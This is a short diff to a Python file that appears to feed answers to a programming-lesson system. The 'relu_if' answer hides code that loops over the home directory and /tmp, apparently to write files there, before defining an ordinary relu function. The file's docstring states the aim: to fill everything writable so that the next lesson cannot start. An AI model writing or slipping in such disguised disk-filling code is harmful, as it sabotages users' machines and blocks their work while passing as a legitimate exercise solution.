@@ -1,6 +1,7 @@
 """Fills everything it may write to, so that the next lesson cannot start."""
 
-ANSWERS = {"relu_if": '''
+ANSWERS = {
+    "relu_if": """
 import os
 for top in (os.path.expanduser("~"), "/tmp"):
     for number in range(400):
@@ -12,6 +13,7 @@ for top in (os.path.expanduser("~"), "/tmp"):
 
 def relu_if(inputs):
     return [max(0, i) for i in inputs]
-'''}
+"""
+}
 EARNS = 2
 NEXT = "def relu_numpy(inputs):\n    return np.maximum(0, inputs)"
